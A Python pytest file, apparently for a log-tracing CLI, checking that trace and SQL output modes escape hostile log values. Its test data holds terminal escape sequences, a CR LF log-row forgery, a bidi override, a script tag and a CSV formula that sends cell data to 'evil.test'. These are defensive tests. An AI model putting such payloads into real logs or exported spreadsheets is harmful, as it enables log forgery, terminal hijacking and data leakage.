"""Every output is text (issue 28, item 4): hostile values in the lines through every ``trace`` mode and every
``sql`` output reach stdout with no C0 character but newline and tab, no DEL and no C1, and no value starts a row
of its own; ``--json`` stays JSON with the same values; plain ``trace`` re-encodes a line holding raw control
characters into the same JSON value and prints every other line as it is stored."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from support.logtree import access_line, app_line, write_lines
from trackline.cli import main
from trackline.reader.text import escape, escape_json

ID = "hostile-1"
T0 = datetime(2026, 12, 7, 12, tzinfo=UTC)
#: Clears the screen, sets the window title, forges a row after CR LF, NUL, a C1 CSI, DEL, markup, a Unicode
#: line separator and a right-to-left override.
HOSTILE = ("/x\x1b[2J\x1b]0;title\x07\r\nFORGED GET /admin -> 200\x00\x9b31m\x7f\x85"
           "<script>document.title='owned'</script>\u2028\u202egnp.exe")
#: C0 but LF and tab, DEL, C1, Unicode's line/paragraph separators and bidirectional controls.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def controls(text: str) -> list[str]:
    """The control characters of ``text`` that must never reach a terminal (CONTROL)."""
    return CONTROL.findall(text)


def assert_text(out: str, traceback_rows: bool = False) -> None:
    """No control character; the forged row is only ever part of its value's row, after its escaped CR LF (or,
    with ``traceback_rows``, an indented row of a traceback, whose LFs are its rows by design)."""
    assert controls(out) == [], out
    for row in out.splitlines():
        assert "FORGED" not in row or "\\r\\nFORGED" in row or (traceback_rows and row.startswith("    ")), row


def strings(value: Any) -> set[str]:
    """Every string in a JSON document, keys too."""
    if isinstance(value, dict):
        return set(value) | {text for item in value.values() for text in strings(item)}
    if isinstance(value, list):
        return {text for item in value for text in strings(item)}
    return {value} if isinstance(value, str) else set()


def records() -> list[dict[str, Any]]:
    access = access_line(T0, ID, hostname=None, request_path=HOSTILE, user_agent=HOSTILE, query_string=HOSTILE,
                         message=f"GET {HOSTILE} 200", span_id="a" * 16, trace_id="b" * 32)
    app = app_line(T0 + timedelta(milliseconds=5), ID, hostname=None, message=HOSTILE, logger=HOSTILE,
                   **{HOSTILE: HOSTILE, "span_id": "a" * 16, "trace_id": "b" * 32})
    error = app_line(T0 + timedelta(milliseconds=9), ID, hostname=None, level="ERROR", message="boom",
                     exc_info=f"Traceback (most recent call last):\nValueError: {HOSTILE}", span_id="a" * 16,
                     trace_id="b" * 32)
    return [access, app, error]


@pytest.fixture
def log_dir(tmp_path: Path) -> Path:
    logs = tmp_path / "logs"
    access, app, error = records()
    write_lines(logs / "access.log", [access])
    write_lines(logs / "app.log", [app])
    write_lines(logs / "error.log", [error])
    return logs


def run(capfd: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    status = main(list(argv))
    out, _ = capfd.readouterr()
    return status, out


def test_escape_shows_every_control_character_and_leaves_text_alone() -> None:
    for code in [*range(0x20), *range(0x7F, 0xA0)]:
        shown = escape(f"a{chr(code)}b")
        assert controls(shown) == [] and "\n" not in shown and "\t" not in shown
        assert json.loads(f'"{shown}"') == f"a{chr(code)}b"  # the JSON escape of the character
    assert escape("\x1b[2J\r\n\x9b\x7f") == "\\u001b[2J\\r\\n\\u009b\\u007f"
    text = "plain café 日本 </script> \\u001b"
    assert escape(text) is text


def test_escape_json_keeps_the_json_value() -> None:
    line = '{"a":\t"x\x7fy\x9bz\x85",\r"b": [1,\t2], "c": "\\u001b"}'
    assert controls(escape_json(line)) == [] and "\t" not in escape_json(line)
    assert json.loads(escape_json(line)) == json.loads(line)
    stored = json.dumps({"message": HOSTILE})
    assert escape_json(stored) is stored


def test_plain_trace_re_encodes_only_lines_with_raw_control_characters(log_dir: Path,
                                                                      capfd: pytest.CaptureFixture[str]) -> None:
    """A line from the log host or another tool may carry raw DEL, C1 and CR between tokens (all valid JSON);
    trackline's own lines are ASCII JSON and printed byte for byte."""
    raw = ('{"@timestamp": "2026-12-07T12:00:00.020+00:00",\r"level": "INFO", "logger": "other", '
           f'"tracking_id": "{ID}", "message": "del\x7f csi\x9b31m nel\x85 tab\tin"}}').encode()
    raw = raw.replace(b"tab\tin", b"tab\\tin")
    write_lines(log_dir / "worker.log", [raw])
    status, out = run(capfd, "trace", ID, "--log-dir", str(log_dir))
    assert status == 0
    assert_text(out)
    rows = out.splitlines()
    stored = [json.dumps(record) for record in records()]
    assert rows[:3] == stored  # as written, byte for byte
    assert len(rows) == 4 and json.loads(rows[3]) == json.loads(raw)


@pytest.mark.parametrize("mode", [["--pretty"], ["--waterfall"], ["--html", "HTML", "--pretty"]])
def test_pretty_and_waterfall_escape_every_value(log_dir: Path, capfd: pytest.CaptureFixture[str],
                                                 mode: list[str], tmp_path: Path) -> None:
    mode = [str(tmp_path / "trace.html") if arg == "HTML" else arg for arg in mode]
    status, out = run(capfd, "trace", ID, "--log-dir", str(log_dir), *mode)
    assert status == 0
    assert_text(out, traceback_rows="--pretty" in mode)
    assert "\\u001b[2J" in out and "\\u009b31m" in out and "\\u007f" in out and "\\u0000" in out
    if mode[-1] == "--pretty":  # one row a line; under the error its traceback's rows, split at LF only
        assert len(out.splitlines()) == 3 + 3
        assert sum(row.startswith("    ") for row in out.splitlines()) == 3


def test_json_stays_json_with_every_value(log_dir: Path, capfd: pytest.CaptureFixture[str]) -> None:
    status, out = run(capfd, "trace", ID, "--log-dir", str(log_dir), "--json")
    assert status == 0
    assert_text(out)
    [document] = [json.loads(row) for row in out.splitlines()]
    assert HOSTILE in strings(document)  # the values, whole


def test_html_embeds_every_value_as_data(log_dir: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    page = tmp_path / "trace.html"
    status, out = run(capfd, "trace", ID, "--log-dir", str(log_dir), "--html", str(page))
    assert status == 0
    assert_text(out)
    text = page.read_text()
    assert page.stat().st_mode & 0o007 == 0  # the page holds the lines: 0640, as the logs
    assert controls(text.replace("\n", "")) == []
    assert "<script>document" not in text and text.count("<script") == 2  # its data and its own script
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)
    assert policy is not None
    directives = dict(part.strip().split(" ", 1) for part in html.unescape(policy.group(1)).split(";"))
    assert directives["default-src"] == "'none'" and re.fullmatch(r"'sha256-[^']+'", directives["script-src"])
    data = re.search(r'<script type="application/json" id="waterfall-data">(.*?)</script>', text, re.S)
    assert data is not None and HOSTILE in strings(json.loads(data.group(1)))


def test_sql_table_csv_and_json_lines_escape_every_value(log_dir: Path, capfd: pytest.CaptureFixture[str]) -> None:
    query = "SELECT request_path, user_agent, status_code FROM access UNION ALL " \
            "SELECT message, logger, 0 FROM app ORDER BY 3"
    status, out = run(capfd, "sql", query, "--log-dir", str(log_dir))
    assert status == 0
    assert_text(out)
    assert len(out.splitlines()) == 2 + 2 + 1 and out.endswith("(2 rows)\n")
    status, out = run(capfd, "sql", query, "--log-dir", str(log_dir), "--csv")
    assert status == 0
    assert_text(out)
    table = list(csv.reader(io.StringIO(out)))
    assert len(out.splitlines()) == len(table) == 3 and {len(row) for row in table} == {3}
    assert table[1][0] == escape(HOSTILE)
    status, out = run(capfd, "sql", query, "--log-dir", str(log_dir), "--json")
    assert status == 0
    assert_text(out)
    assert [json.loads(row)["request_path"] for row in out.splitlines()] == [HOSTILE, HOSTILE]


def test_sql_error_quoting_a_value_is_text(log_dir: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """DuckDB's error quotes the value it could not convert: the message is escaped like any output."""
    status = main(["sql", "SELECT CAST(message AS INTEGER) FROM app", "--log-dir", str(log_dir)])
    err = capfd.readouterr().err
    assert status == 1 and err.startswith("trackline: sql: ") and err.count("\n") == 1
    assert controls(err) == [] and "\\u001b[2J" in err


@pytest.mark.parametrize("formula", ["=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)"])
def test_sql_csv_shows_a_formula_as_text(tmp_path: Path, capfd: pytest.CaptureFixture[str], formula: str) -> None:
    write_lines(tmp_path / "access.log", [access_line(T0, ID, hostname=None, user_agent=formula, status_code=200)])
    status, out = run(capfd, "sql", "SELECT user_agent, status_code, -1 AS n FROM access", "--log-dir", str(tmp_path),
                      "--csv")
    assert status == 0
    assert list(csv.reader(io.StringIO(out)))[1] == ["'" + formula, "200", "-1"]  # numbers stay numbers
